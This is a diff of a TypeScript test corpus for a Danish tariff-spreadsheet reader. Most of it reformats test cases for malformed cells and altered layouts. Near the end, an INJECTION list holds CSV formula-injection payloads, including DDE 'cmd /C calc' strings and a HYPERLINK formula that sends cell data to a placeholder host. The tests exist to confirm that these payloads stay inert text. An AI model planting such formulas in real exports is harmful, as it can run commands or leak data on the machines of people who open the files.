@@ -104,51 +104,206 @@ function readsCase(id: string, title: string, edit: Parameters<typeof skema>[0],
 // Cell content.
 
 const CONTENT: CorpusCase[] = [
-  readsCase('tekst-i-talcelle', 'Tekst i en talcelle (Pladser = "fyrre")', (ws) => typed(ws, HOBRO('y2', 'pladser'), 'fyrre'), [{ rule: 'not-a-number', cell: HOBRO('y2', 'pladser') }], [{ block: 1, year: 'y2', field: 'pladser', value: null }]),
-  readsCase('procent-som-tekst', 'Belægning skrevet som teksten "98 %"', (ws) => typed(ws, HOBRO('y2', 'belaegning'), '98 %'), [{ rule: 'text-number', cell: HOBRO('y2', 'belaegning') }], [{ block: 1, year: 'y2', field: 'belaegning', value: 98 }]),
-  readsCase('procent-uden-procenttegn', 'Belægning skrevet som tallet 98 i en celle uden procentformat', (ws) => typed(ws, HOBRO('y2', 'belaegning'), 98), [], [{ block: 1, year: 'y2', field: 'belaegning', value: 98 }]),
-  readsCase('dansk-decimal-som-tekst', 'OH % skrevet som teksten "5,7"', (ws) => typed(ws, HOBRO('y2', 'oh'), '5,7'), [{ rule: 'text-number', cell: HOBRO('y2', 'oh') }], [{ block: 1, year: 'y2', field: 'oh', value: 5.7 }]),
-  readsCase('engelsk-decimal-som-tekst', 'Takst 1 skrevet med engelsk decimalpunktum: "325.50"', (ws) => typed(ws, HOBRO('y2', 'takst1'), '325.50'), [{ rule: 'text-number', cell: HOBRO('y2', 'takst1') }], [{ block: 1, year: 'y2', field: 'takst1', value: 325.5 }]),
-  readsCase('tusindtalsseparator-punktum', 'Budget skrevet som teksten "8.716.584"', (ws) => typed(ws, HOBRO('y2', 'budget'), '8.716.584'), [{ rule: 'text-number', cell: HOBRO('y2', 'budget') }], [{ block: 1, year: 'y2', field: 'budget', value: 8_716_584 }]),
-  readsCase('tusindtalsseparator-komma', 'Budget skrevet med engelske tusindtalskommaer: "8,716,584"', (ws) => typed(ws, HOBRO('y2', 'budget'), '8,716,584'), [{ rule: 'text-number', cell: HOBRO('y2', 'budget') }], [{ block: 1, year: 'y2', field: 'budget', value: 8_716_584 }]),
-  readsCase('tusindtalsseparator-mellemrum', 'Budget skrevet med hårde mellemrum som tusindtalsseparator: "8 716 584"', (ws) => typed(ws, HOBRO('y2', 'budget'), '8\u00a0716\u00a0584'), [{ rule: 'text-number', cell: HOBRO('y2', 'budget') }], [{ block: 1, year: 'y2', field: 'budget', value: 8_716_584 }]),
-  readsCase('valuta-og-kr', 'Takst skrevet som "487 kr."', (ws) => typed(ws, HOBRO('y2', 'takst2'), '487 kr.'), [{ rule: 'text-number', cell: HOBRO('y2', 'takst2') }], [{ block: 1, year: 'y2', field: 'takst2', value: 487 }]),
-  readsCase('unicode-minus', 'Regulering med typografisk minus: "−571.416"', (ws) => typed(ws, HOBRO('y2', 'regulering'), '\u2212571.416'), [{ rule: 'text-number', cell: HOBRO('y2', 'regulering') }], [{ block: 1, year: 'y2', field: 'regulering', value: -571_416 }]),
-  readsCase('kun-mellemrum', 'En talcelle med kun mellemrum (læses som tom)', (ws) => typed(ws, HOBRO('y2', 'regulering'), '   '), [], [{ block: 1, year: 'y2', field: 'regulering', value: null }]),
-  readsCase('negative-pladser', 'Negativt antal pladser', (ws) => typed(ws, HOBRO('y2', 'pladser'), -50), [{ rule: 'pladser-negative', cell: HOBRO('y2', 'pladser') }], [{ block: 1, year: 'y2', field: 'pladser', value: -50 }]),
-  readsCase('pladser-med-decimaler', 'Pladser med decimaler (49,5)', (ws) => typed(ws, HOBRO('y2', 'pladser'), 49.5), [{ rule: 'pladser-not-whole', cell: HOBRO('y2', 'pladser') }]),
-  readsCase('belaegning-0', 'Belægning 0 % (under grænseværdien: kræver også bemærkning og tomgang)', (ws) => (ws.getCell(HOBRO('y2', 'belaegning')).value = 0), [{ rule: 'belaegning-range', cell: HOBRO('y2', 'belaegning') }, { rule: 'low-occupancy-needs-remark' }], [{ block: 1, year: 'y2', field: 'belaegning', value: 0 }]),
-  readsCase('belaegning-150', 'Belægning 150 %', (ws) => (ws.getCell(HOBRO('y2', 'belaegning')).value = 1.5), [{ rule: 'belaegning-range', cell: HOBRO('y2', 'belaegning') }], [{ block: 1, year: 'y2', field: 'belaegning', value: 150 }]),
-  readsCase('negativt-budget', 'Negativt budget i alt', (ws) => (ws.getCell(HOBRO('y2', 'budget')).value = -8_716_584), [{ rule: 'budget-and-rates', cell: HOBRO('y2', 'budget') }]),
-  readsCase('formel-i-inputcelle', 'En formel i en indtastningscelle (Budget = 8000000+716584) læses som sit resultat', (ws) => (ws.getCell(HOBRO('y2', 'budget')).value = { formula: '8000000+716584', result: 8_716_584 }), [], [{ block: 1, year: 'y2', field: 'budget', value: 8_716_584 }]),
-  readsCase('fejl-ref', '#REF! i en indtastningscelle (formel til en slettet række)', (ws) => (ws.getCell(HOBRO('y2', 'budget')).value = { formula: '#REF!*2', result: { error: '#REF!' } }), [{ rule: 'input-error-value', cell: HOBRO('y2', 'budget') }], [{ block: 1, year: 'y2', field: 'budget', value: null }]),
-  readsCase('fejl-div0', '#DIV/0! i en indtastningscelle', (ws) => (ws.getCell(HOBRO('y2', 'takst1')).value = { formula: 'G9/0', result: { error: '#DIV/0!' } }), [{ rule: 'input-error-value', cell: HOBRO('y2', 'takst1') }]),
-  readsCase('fejl-na', '#N/A som værdi i en indtastningscelle (indsat som værdi)', (ws) => (ws.getCell(HOBRO('y1', 'pladser')).value = { error: '#N/A' } as ExcelJS.CellErrorValue), [{ rule: 'input-error-value', cell: HOBRO('y1', 'pladser') }]),
-  readsCase('fejl-value-i-oh', '#VALUE! i OH %', (ws) => (ws.getCell(BB('y2', 'oh')).value = { formula: 'A1+1', result: { error: '#VALUE!' } }), [{ rule: 'input-error-value', cell: BB('y2', 'oh') }]),
-  readsCase('dato-i-talcelle', 'En dato i en talcelle (Pladser = 1-1-2027)', (ws) => {
-    const c = ws.getCell(HOBRO('y2', 'pladser'));
-    c.value = new Date(Date.UTC(2027, 0, 1));
-    c.numFmt = 'd-m-yyyy';
-  }, [{ rule: 'not-a-number', cell: HOBRO('y2', 'pladser') }]),
-  readsCase('aarstal-tastefejl', 'År 20277 i en blok (en tast for meget)', (ws) => (ws.getCell(HOBRO('y2', 'aar')).value = 20277), [{ rule: 'year-in-sheet', cell: HOBRO('y2', 'aar') }]),
-  readsCase('aarstal-som-datotal', 'År er datoens serienummer 46388 (1-1-2027, der har mistet sit datoformat)', (ws) => typed(ws, HOBRO('y2', 'aar'), 46388), [{ rule: 'year-in-sheet', cell: HOBRO('y2', 'aar') }]),
-  readsCase('formel-uden-resultat', 'Budget i alt er en formel uden gemt resultat (filen er gemt af et program, der ikke regner)', (ws) => (ws.getCell(HOBRO('y2', 'budget')).value = { formula: 'SUM(X1:X9)' } as ExcelJS.CellFormulaValue), [{ rule: 'formula-without-result', cell: HOBRO('y2', 'budget') }]),
-  readsCase('sand-i-talcelle', 'SAND (en logisk værdi) i en talcelle', (ws) => (ws.getCell(HOBRO('y2', 'takst1')).value = true), [{ rule: 'not-a-number', cell: HOBRO('y2', 'takst1') }]),
-  readsCase('takst-3-uden-takst-2', 'Takst 3 udfyldt, Takst 2 tom', (ws) => ((ws.getCell(HOBRO('y2', 'takst2')).value = null), (ws.getCell(HOBRO('y2', 'takst3')).value = 487)), [{ rule: 'takst-levels-contiguous', cell: HOBRO('y2', 'takst2') }]),
-  readsCase('enhed-ukendt', 'Enhed uden for listen ("Døgnpris"; Enhed er flettet over de to årsrækker)', (ws) => (ws.getCell(HOBRO('y1', 'enhed')).value = 'Døgnpris'), [{ rule: 'enhed-in-list', cell: HOBRO('y1', 'enhed') }]),
-  readsCase('tilbud-tomt', 'Tilbud og Afdeling slettet i en blok med tal', (ws) => {
-    for (const y of ['y1', 'y2'] as const) {
-      ws.getCell(HOBRO(y, 'tilbud')).value = null;
-      ws.getCell(HOBRO(y, 'afdeling')).value = null;
-    }
-  }, [{ rule: 'identity-required', cell: HOBRO('y1', 'tilbud') }]),
-  readsCase('pl-slettet', 'P/L - Kommuner slettet i arkets hoved', (ws) => (ws.getCell(a1(L.header.plKommuner.row, L.header.plKommuner.col)).value = null), [{ rule: 'sheet-cells-present' }]),
-  readsCase('driftsherre-stavefejl', 'Driftsherre stavet forkert ("Mariagerfjord Kommunne")', (ws) => (ws.getCell(a1(L.header.driftsherre.row, L.header.driftsherre.col)).value = 'Mariagerfjord Kommunne'), [{ rule: 'driftsherre-known' }]),
+  readsCase(
+    'tekst-i-talcelle',
+    'Tekst i en talcelle (Pladser = "fyrre")',
+    (ws) => typed(ws, HOBRO('y2', 'pladser'), 'fyrre'),
+    [{ rule: 'not-a-number', cell: HOBRO('y2', 'pladser') }],
+    [{ block: 1, year: 'y2', field: 'pladser', value: null }],
+  ),
+  readsCase(
+    'procent-som-tekst',
+    'Belægning skrevet som teksten "98 %"',
+    (ws) => typed(ws, HOBRO('y2', 'belaegning'), '98 %'),
+    [{ rule: 'text-number', cell: HOBRO('y2', 'belaegning') }],
+    [{ block: 1, year: 'y2', field: 'belaegning', value: 98 }],
+  ),
+  readsCase(
+    'procent-uden-procenttegn',
+    'Belægning skrevet som tallet 98 i en celle uden procentformat',
+    (ws) => typed(ws, HOBRO('y2', 'belaegning'), 98),
+    [],
+    [{ block: 1, year: 'y2', field: 'belaegning', value: 98 }],
+  ),
+  readsCase(
+    'dansk-decimal-som-tekst',
+    'OH % skrevet som teksten "5,7"',
+    (ws) => typed(ws, HOBRO('y2', 'oh'), '5,7'),
+    [{ rule: 'text-number', cell: HOBRO('y2', 'oh') }],
+    [{ block: 1, year: 'y2', field: 'oh', value: 5.7 }],
+  ),
+  readsCase(
+    'engelsk-decimal-som-tekst',
+    'Takst 1 skrevet med engelsk decimalpunktum: "325.50"',
+    (ws) => typed(ws, HOBRO('y2', 'takst1'), '325.50'),
+    [{ rule: 'text-number', cell: HOBRO('y2', 'takst1') }],
+    [{ block: 1, year: 'y2', field: 'takst1', value: 325.5 }],
+  ),
+  readsCase(
+    'tusindtalsseparator-punktum',
+    'Budget skrevet som teksten "8.716.584"',
+    (ws) => typed(ws, HOBRO('y2', 'budget'), '8.716.584'),
+    [{ rule: 'text-number', cell: HOBRO('y2', 'budget') }],
+    [{ block: 1, year: 'y2', field: 'budget', value: 8_716_584 }],
+  ),
+  readsCase(
+    'tusindtalsseparator-komma',
+    'Budget skrevet med engelske tusindtalskommaer: "8,716,584"',
+    (ws) => typed(ws, HOBRO('y2', 'budget'), '8,716,584'),
+    [{ rule: 'text-number', cell: HOBRO('y2', 'budget') }],
+    [{ block: 1, year: 'y2', field: 'budget', value: 8_716_584 }],
+  ),
+  readsCase(
+    'tusindtalsseparator-mellemrum',
+    'Budget skrevet med hårde mellemrum som tusindtalsseparator: "8 716 584"',
+    (ws) => typed(ws, HOBRO('y2', 'budget'), '8\u00a0716\u00a0584'),
+    [{ rule: 'text-number', cell: HOBRO('y2', 'budget') }],
+    [{ block: 1, year: 'y2', field: 'budget', value: 8_716_584 }],
+  ),
+  readsCase(
+    'valuta-og-kr',
+    'Takst skrevet som "487 kr."',
+    (ws) => typed(ws, HOBRO('y2', 'takst2'), '487 kr.'),
+    [{ rule: 'text-number', cell: HOBRO('y2', 'takst2') }],
+    [{ block: 1, year: 'y2', field: 'takst2', value: 487 }],
+  ),
+  readsCase(
+    'unicode-minus',
+    'Regulering med typografisk minus: "−571.416"',
+    (ws) => typed(ws, HOBRO('y2', 'regulering'), '\u2212571.416'),
+    [{ rule: 'text-number', cell: HOBRO('y2', 'regulering') }],
+    [{ block: 1, year: 'y2', field: 'regulering', value: -571_416 }],
+  ),
+  readsCase(
+    'kun-mellemrum',
+    'En talcelle med kun mellemrum (læses som tom)',
+    (ws) => typed(ws, HOBRO('y2', 'regulering'), '   '),
+    [],
+    [{ block: 1, year: 'y2', field: 'regulering', value: null }],
+  ),
+  readsCase(
+    'negative-pladser',
+    'Negativt antal pladser',
+    (ws) => typed(ws, HOBRO('y2', 'pladser'), -50),
+    [{ rule: 'pladser-negative', cell: HOBRO('y2', 'pladser') }],
+    [{ block: 1, year: 'y2', field: 'pladser', value: -50 }],
+  ),
+  readsCase('pladser-med-decimaler', 'Pladser med decimaler (49,5)', (ws) => typed(ws, HOBRO('y2', 'pladser'), 49.5), [
+    { rule: 'pladser-not-whole', cell: HOBRO('y2', 'pladser') },
+  ]),
+  readsCase(
+    'belaegning-0',
+    'Belægning 0 % (under grænseværdien: kræver også bemærkning og tomgang)',
+    (ws) => (ws.getCell(HOBRO('y2', 'belaegning')).value = 0),
+    [{ rule: 'belaegning-range', cell: HOBRO('y2', 'belaegning') }, { rule: 'low-occupancy-needs-remark' }],
+    [{ block: 1, year: 'y2', field: 'belaegning', value: 0 }],
+  ),
+  readsCase(
+    'belaegning-150',
+    'Belægning 150 %',
+    (ws) => (ws.getCell(HOBRO('y2', 'belaegning')).value = 1.5),
+    [{ rule: 'belaegning-range', cell: HOBRO('y2', 'belaegning') }],
+    [{ block: 1, year: 'y2', field: 'belaegning', value: 150 }],
+  ),
+  readsCase('negativt-budget', 'Negativt budget i alt', (ws) => (ws.getCell(HOBRO('y2', 'budget')).value = -8_716_584), [
+    { rule: 'budget-and-rates', cell: HOBRO('y2', 'budget') },
+  ]),
+  readsCase(
+    'formel-i-inputcelle',
+    'En formel i en indtastningscelle (Budget = 8000000+716584) læses som sit resultat',
+    (ws) => (ws.getCell(HOBRO('y2', 'budget')).value = { formula: '8000000+716584', result: 8_716_584 }),
+    [],
+    [{ block: 1, year: 'y2', field: 'budget', value: 8_716_584 }],
+  ),
+  readsCase(
+    'fejl-ref',
+    '#REF! i en indtastningscelle (formel til en slettet række)',
+    (ws) => (ws.getCell(HOBRO('y2', 'budget')).value = { formula: '#REF!*2', result: { error: '#REF!' } }),
+    [{ rule: 'input-error-value', cell: HOBRO('y2', 'budget') }],
+    [{ block: 1, year: 'y2', field: 'budget', value: null }],
+  ),
+  readsCase(
+    'fejl-div0',
+    '#DIV/0! i en indtastningscelle',
+    (ws) => (ws.getCell(HOBRO('y2', 'takst1')).value = { formula: 'G9/0', result: { error: '#DIV/0!' } }),
+    [{ rule: 'input-error-value', cell: HOBRO('y2', 'takst1') }],
+  ),
+  readsCase(
+    'fejl-na',
+    '#N/A som værdi i en indtastningscelle (indsat som værdi)',
+    (ws) => (ws.getCell(HOBRO('y1', 'pladser')).value = { error: '#N/A' } as ExcelJS.CellErrorValue),
+    [{ rule: 'input-error-value', cell: HOBRO('y1', 'pladser') }],
+  ),
+  readsCase('fejl-value-i-oh', '#VALUE! i OH %', (ws) => (ws.getCell(BB('y2', 'oh')).value = { formula: 'A1+1', result: { error: '#VALUE!' } }), [
+    { rule: 'input-error-value', cell: BB('y2', 'oh') },
+  ]),
+  readsCase(
+    'dato-i-talcelle',
+    'En dato i en talcelle (Pladser = 1-1-2027)',
+    (ws) => {
+      const c = ws.getCell(HOBRO('y2', 'pladser'));
+      c.value = new Date(Date.UTC(2027, 0, 1));
+      c.numFmt = 'd-m-yyyy';
+    },
+    [{ rule: 'not-a-number', cell: HOBRO('y2', 'pladser') }],
+  ),
+  readsCase('aarstal-tastefejl', 'År 20277 i en blok (en tast for meget)', (ws) => (ws.getCell(HOBRO('y2', 'aar')).value = 20277), [
+    { rule: 'year-in-sheet', cell: HOBRO('y2', 'aar') },
+  ]),
+  readsCase('aarstal-som-datotal', 'År er datoens serienummer 46388 (1-1-2027, der har mistet sit datoformat)', (ws) => typed(ws, HOBRO('y2', 'aar'), 46388), [
+    { rule: 'year-in-sheet', cell: HOBRO('y2', 'aar') },
+  ]),
+  readsCase(
+    'formel-uden-resultat',
+    'Budget i alt er en formel uden gemt resultat (filen er gemt af et program, der ikke regner)',
+    (ws) => (ws.getCell(HOBRO('y2', 'budget')).value = { formula: 'SUM(X1:X9)' } as ExcelJS.CellFormulaValue),
+    [{ rule: 'formula-without-result', cell: HOBRO('y2', 'budget') }],
+  ),
+  readsCase('sand-i-talcelle', 'SAND (en logisk værdi) i en talcelle', (ws) => (ws.getCell(HOBRO('y2', 'takst1')).value = true), [
+    { rule: 'not-a-number', cell: HOBRO('y2', 'takst1') },
+  ]),
+  readsCase(
+    'takst-3-uden-takst-2',
+    'Takst 3 udfyldt, Takst 2 tom',
+    (ws) => ((ws.getCell(HOBRO('y2', 'takst2')).value = null), (ws.getCell(HOBRO('y2', 'takst3')).value = 487)),
+    [{ rule: 'takst-levels-contiguous', cell: HOBRO('y2', 'takst2') }],
+  ),
+  readsCase(
+    'enhed-ukendt',
+    'Enhed uden for listen ("Døgnpris"; Enhed er flettet over de to årsrækker)',
+    (ws) => (ws.getCell(HOBRO('y1', 'enhed')).value = 'Døgnpris'),
+    [{ rule: 'enhed-in-list', cell: HOBRO('y1', 'enhed') }],
+  ),
+  readsCase(
+    'tilbud-tomt',
+    'Tilbud og Afdeling slettet i en blok med tal',
+    (ws) => {
+      for (const y of ['y1', 'y2'] as const) {
+        ws.getCell(HOBRO(y, 'tilbud')).value = null;
+        ws.getCell(HOBRO(y, 'afdeling')).value = null;
+      }
+    },
+    [{ rule: 'identity-required', cell: HOBRO('y1', 'tilbud') }],
+  ),
+  readsCase('pl-slettet', 'P/L - Kommuner slettet i arkets hoved', (ws) => (ws.getCell(a1(L.header.plKommuner.row, L.header.plKommuner.col)).value = null), [
+    { rule: 'sheet-cells-present' },
+  ]),
+  readsCase(
+    'driftsherre-stavefejl',
+    'Driftsherre stavet forkert ("Mariagerfjord Kommunne")',
+    (ws) => (ws.getCell(a1(L.header.driftsherre.row, L.header.driftsherre.col)).value = 'Mariagerfjord Kommunne'),
+    [{ rule: 'driftsherre-known' }],
+  ),
   readsCase('lang-tekst', 'En bemærkning på 40.000 tegn', (ws) => (ws.getCell(HOBRO('y2', 'bemaerkning')).value = 'Lang bemærkning. '.repeat(2_400)), []),
-  readsCase('rich-text-og-link', 'Tilbud som formateret tekst og som hyperlink', (ws) => {
-    ws.getCell(HOBRO('y1', 'tilbud')).value = { richText: [{ text: 'Aktivitetshuset ', font: { bold: true } }, { text: 'Hobro' }] };
-    ws.getCell(BB('y1', 'tilbud')).value = { text: 'Beskyttet Beskæftigelse Mariagerfjord', hyperlink: 'https://example.invalid/' };
-  }, []),
+  readsCase(
+    'rich-text-og-link',
+    'Tilbud som formateret tekst og som hyperlink',
+    (ws) => {
+      ws.getCell(HOBRO('y1', 'tilbud')).value = { richText: [{ text: 'Aktivitetshuset ', font: { bold: true } }, { text: 'Hobro' }] };
+      ws.getCell(BB('y1', 'tilbud')).value = { text: 'Beskyttet Beskæftigelse Mariagerfjord', hyperlink: 'https://example.invalid/' };
+    },
+    [],
+  ),
 ];
 
 // ---------------------------------------------------------------------------------------------------------------
@@ -159,7 +314,12 @@ const b2 = L.blocks[1];
 const row1 = (r0: number) => r0 + 1;
 
 /** A case made by editing the base workbook; `sheet()` is the skema sheet as it is now (an edit may rebuild it). */
-function layoutCase(id: string, title: string, edit: (workbook: ExcelJS.Workbook, sheet: () => ExcelJS.Worksheet) => void | Promise<void>, expect: Expectation): CorpusCase {
+function layoutCase(
+  id: string,
+  title: string,
+  edit: (workbook: ExcelJS.Workbook, sheet: () => ExcelJS.Worksheet) => void | Promise<void>,
+  expect: Expectation,
+): CorpusCase {
   return {
     id,
     title,
@@ -174,33 +334,104 @@ function layoutCase(id: string, title: string, edit: (workbook: ExcelJS.Workbook
 }
 
 const LAYOUT: CorpusCase[] = [
-  layoutCase('tom-raekke-i-blok', 'En tom række indsat mellem år 1 og år 2 i en blok', (workbook) => {
-    insertRows(workbook, SHEET, row1(b1.y2Row));
-  }, { kind: 'reads', findings: [], values: [{ block: 1, year: 'y2', field: 'budget', value: 8_716_584 }, { block: 2, year: 'y2', field: 'takst2', value: 519 }] }),
-  layoutCase('raekke-med-tal-i-blok', 'En række med tal indsat inde i en blok (en ekstra årsrække)', (workbook, sheet) => {
-    insertRows(workbook, SHEET, row1(b1.changeRow));
-    sheet().getCell(a1(b1.changeRow, L.columns.aar)).value = 2028;
-    sheet().getCell(a1(b1.changeRow, L.columns.pladser)).value = 52;
-  }, { kind: 'reads', findings: [{ rule: 'unplaced-value', cell: a1(b1.changeRow, L.columns.pladser) }], values: [{ block: 1, year: 'y2', field: 'pladser', value: 50 }] }),
-  layoutCase('blokoverskrift-slettet', 'Overskriftsrækken i blok 2 slettet', (workbook) => {
-    deleteRow(workbook, SHEET, row1(b2.headerRow));
-  }, { kind: 'reads', findings: [{ rule: 'block-header-missing', cell: a1(b2.y1Row - 1, L.columns.tilbud) }], values: [{ block: 1, year: 'y2', field: 'pladser', value: 50 }, { block: 2, year: 'y1', field: 'pladser', value: 57 }, { block: 2, year: 'y2', field: 'takst2', value: 519 }], blocks: 2 }),
-  layoutCase('flettede-celler-flyttet', 'Flettede celler flyttet: Tilbud flettet ned over Ændring-rækken, Bemærkning flettet over to kolonner', (workbook, sheet) => {
-    const tilbud = `${a1(b1.y1Row, L.columns.tilbud)}:${a1(b1.y2Row, L.columns.tilbud)}`;
-    const bem = `${a1(b1.y1Row, L.columns.bemaerkning)}:${a1(b1.y2Row, L.columns.bemaerkning)}`;
-    sheet().unMergeCells(tilbud);
-    sheet().unMergeCells(bem);
-    sheet().mergeCells(`${a1(b1.y1Row, L.columns.tilbud)}:${a1(b1.changeRow, L.columns.tilbud)}`);
-    sheet().mergeCells(`${a1(b1.y1Row, L.columns.tomgang)}:${a1(b1.y1Row, L.columns.bemaerkning)}`);
-  }, { kind: 'reads', findings: [], values: [{ block: 1, year: 'y1', field: 'pladser', value: 50 }, { block: 1, year: 'y2', field: 'budget', value: 8_716_584 }] }),
-  layoutCase('kolonner-byttet', 'Kolonnerne Pladser og Belægning byttet om (overskrifter og tal)', (workbook) => {
-    swapColumns(workbook, SHEET, L.columns.pladser + 1, L.columns.belaegning + 1);
-  }, { kind: 'reads', findings: [], values: [{ block: 1, year: 'y2', field: 'pladser', value: 50 }, { block: 1, year: 'y2', field: 'belaegning', value: 98 }] }),
-  layoutCase('kolonne-indsat', 'En ekstra kolonne ("Note") indsat mellem Budget i alt og Regulering', (workbook, sheet) => {
-    const at0 = L.columns.regulering + 1;
-    remapSheet(workbook, SHEET, (r, c) => [r, c >= at0 ? c + 1 : c]);
-    for (const b of L.blocks) sheet().getCell(b.headerRow + 1, at0).value = 'Note';
-  }, { kind: 'reads', findings: [], values: [{ block: 1, year: 'y2', field: 'regulering', value: -571_416 }, { block: 2, year: 'y2', field: 'takst2', value: 519 }] }),
+  layoutCase(
+    'tom-raekke-i-blok',
+    'En tom række indsat mellem år 1 og år 2 i en blok',
+    (workbook) => {
+      insertRows(workbook, SHEET, row1(b1.y2Row));
+    },
+    {
+      kind: 'reads',
+      findings: [],
+      values: [
+        { block: 1, year: 'y2', field: 'budget', value: 8_716_584 },
+        { block: 2, year: 'y2', field: 'takst2', value: 519 },
+      ],
+    },
+  ),
+  layoutCase(
+    'raekke-med-tal-i-blok',
+    'En række med tal indsat inde i en blok (en ekstra årsrække)',
+    (workbook, sheet) => {
+      insertRows(workbook, SHEET, row1(b1.changeRow));
+      sheet().getCell(a1(b1.changeRow, L.columns.aar)).value = 2028;
+      sheet().getCell(a1(b1.changeRow, L.columns.pladser)).value = 52;
+    },
+    {
+      kind: 'reads',
+      findings: [{ rule: 'unplaced-value', cell: a1(b1.changeRow, L.columns.pladser) }],
+      values: [{ block: 1, year: 'y2', field: 'pladser', value: 50 }],
+    },
+  ),
+  layoutCase(
+    'blokoverskrift-slettet',
+    'Overskriftsrækken i blok 2 slettet',
+    (workbook) => {
+      deleteRow(workbook, SHEET, row1(b2.headerRow));
+    },
+    {
+      kind: 'reads',
+      findings: [{ rule: 'block-header-missing', cell: a1(b2.y1Row - 1, L.columns.tilbud) }],
+      values: [
+        { block: 1, year: 'y2', field: 'pladser', value: 50 },
+        { block: 2, year: 'y1', field: 'pladser', value: 57 },
+        { block: 2, year: 'y2', field: 'takst2', value: 519 },
+      ],
+      blocks: 2,
+    },
+  ),
+  layoutCase(
+    'flettede-celler-flyttet',
+    'Flettede celler flyttet: Tilbud flettet ned over Ændring-rækken, Bemærkning flettet over to kolonner',
+    (workbook, sheet) => {
+      const tilbud = `${a1(b1.y1Row, L.columns.tilbud)}:${a1(b1.y2Row, L.columns.tilbud)}`;
+      const bem = `${a1(b1.y1Row, L.columns.bemaerkning)}:${a1(b1.y2Row, L.columns.bemaerkning)}`;
+      sheet().unMergeCells(tilbud);
+      sheet().unMergeCells(bem);
+      sheet().mergeCells(`${a1(b1.y1Row, L.columns.tilbud)}:${a1(b1.changeRow, L.columns.tilbud)}`);
+      sheet().mergeCells(`${a1(b1.y1Row, L.columns.tomgang)}:${a1(b1.y1Row, L.columns.bemaerkning)}`);
+    },
+    {
+      kind: 'reads',
+      findings: [],
+      values: [
+        { block: 1, year: 'y1', field: 'pladser', value: 50 },
+        { block: 1, year: 'y2', field: 'budget', value: 8_716_584 },
+      ],
+    },
+  ),
+  layoutCase(
+    'kolonner-byttet',
+    'Kolonnerne Pladser og Belægning byttet om (overskrifter og tal)',
+    (workbook) => {
+      swapColumns(workbook, SHEET, L.columns.pladser + 1, L.columns.belaegning + 1);
+    },
+    {
+      kind: 'reads',
+      findings: [],
+      values: [
+        { block: 1, year: 'y2', field: 'pladser', value: 50 },
+        { block: 1, year: 'y2', field: 'belaegning', value: 98 },
+      ],
+    },
+  ),
+  layoutCase(
+    'kolonne-indsat',
+    'En ekstra kolonne ("Note") indsat mellem Budget i alt og Regulering',
+    (workbook, sheet) => {
+      const at0 = L.columns.regulering + 1;
+      remapSheet(workbook, SHEET, (r, c) => [r, c >= at0 ? c + 1 : c]);
+      for (const b of L.blocks) sheet().getCell(b.headerRow + 1, at0).value = 'Note';
+    },
+    {
+      kind: 'reads',
+      findings: [],
+      values: [
+        { block: 1, year: 'y2', field: 'regulering', value: -571_416 },
+        { block: 2, year: 'y2', field: 'takst2', value: 519 },
+      ],
+    },
+  ),
   {
     id: 'skjult-ark',
     title: 'Takstskemaet ligger i et skjult ark',
@@ -216,44 +447,68 @@ const LAYOUT: CorpusCase[] = [
       const first = base().workbook;
       const second = base().workbook.getWorksheet(SHEET)!;
       const copy = first.addWorksheet('Takster 2027 (2)');
-      second.eachRow({ includeEmpty: true }, (row) => row.eachCell({ includeEmpty: true }, (c) => {
-        if (c.isMerged && c.master !== c) return;
-        const t = copy.getCell(c.address);
-        t.value = c.value;
-        t.style = c.style;
-      }));
+      second.eachRow({ includeEmpty: true }, (row) =>
+        row.eachCell({ includeEmpty: true }, (c) => {
+          if (c.isMerged && c.master !== c) return;
+          const t = copy.getCell(c.address);
+          t.value = c.value;
+          t.style = c.style;
+        }),
+      );
       for (const m of (second.model as { merges?: string[] }).merges ?? []) copy.mergeCells(m);
       copy.getCell(HOBRO('y2', 'pladser')).value = 'halvtreds';
       return workbookBytes(first);
     },
     expect: { kind: 'reads', findings: [{ rule: 'not-a-number', cell: HOBRO('y2', 'pladser'), sheet: 'Takster 2027 (2)' }], sheets: 2 },
   },
-  layoutCase('beskyttet-ark', 'Arket er beskyttet med adgangskode (arkbeskyttelse, filen kan læses)', async (workbook) => {
-    await workbook.getWorksheet(SHEET)!.protect('hemmelig', { selectLockedCells: true });
-  }, { kind: 'reads', findings: [] }),
-  layoutCase('flyttet-ned-og-til-hoejre', 'Hele skemaet flyttet 3 rækker ned og 2 kolonner til højre', (workbook) => {
-    remapSheet(workbook, SHEET, (r, c) => [r + 3, c + 2]);
-  }, { kind: 'reads', findings: [], values: [{ block: 2, year: 'y1', field: 'takst1', value: 307 }] }),
+  layoutCase(
+    'beskyttet-ark',
+    'Arket er beskyttet med adgangskode (arkbeskyttelse, filen kan læses)',
+    async (workbook) => {
+      await workbook.getWorksheet(SHEET)!.protect('hemmelig', { selectLockedCells: true });
+    },
+    { kind: 'reads', findings: [] },
+  ),
+  layoutCase(
+    'flyttet-ned-og-til-hoejre',
+    'Hele skemaet flyttet 3 rækker ned og 2 kolonner til højre',
+    (workbook) => {
+      remapSheet(workbook, SHEET, (r, c) => [r + 3, c + 2]);
+    },
+    { kind: 'reads', findings: [], values: [{ block: 2, year: 'y1', field: 'takst1', value: 307 }] },
+  ),
 ];
 
 // ---------------------------------------------------------------------------------------------------------------
 // Injection: formula payloads in every text field stay text in every output.
 
-export const INJECTION = ['=HYPERLINK("http://example.invalid/?x="&A1,"klik")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
+export const INJECTION = [
+  '=HYPERLINK("http://example.invalid/?x="&A1,"klik")',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+];
 
 const INJECT: CorpusCase[] = [
-  readsCase('csv-injektion-i-tekstfelter', 'Formel-lignende tekst (CSV-injektion) i Tilbud, Afdeling, §§, Enhed, Bemærkning, Særlige forhold og Driftsherre', (ws) => {
-    const [p0, p1, p2, p3, p4] = INJECTION;
-    for (const y of ['y1', 'y2'] as const) {
-      ws.getCell(HOBRO(y, 'afdeling')).value = p1;
-      ws.getCell(HOBRO(y, 'paragraf')).value = p2;
-    }
-    ws.getCell(HOBRO('y1', 'tilbud')).value = p0;
-    ws.getCell(HOBRO('y1', 'enhed')).value = p3;
-    ws.getCell(HOBRO('y1', 'bemaerkning')).value = p4;
-    ws.getCell(a1(b1.saerligeRow, b1.saerligeValueCol)).value = INJECTION[5];
-    ws.getCell(a1(L.header.driftsherre.row, L.header.driftsherre.col)).value = '=1+1';
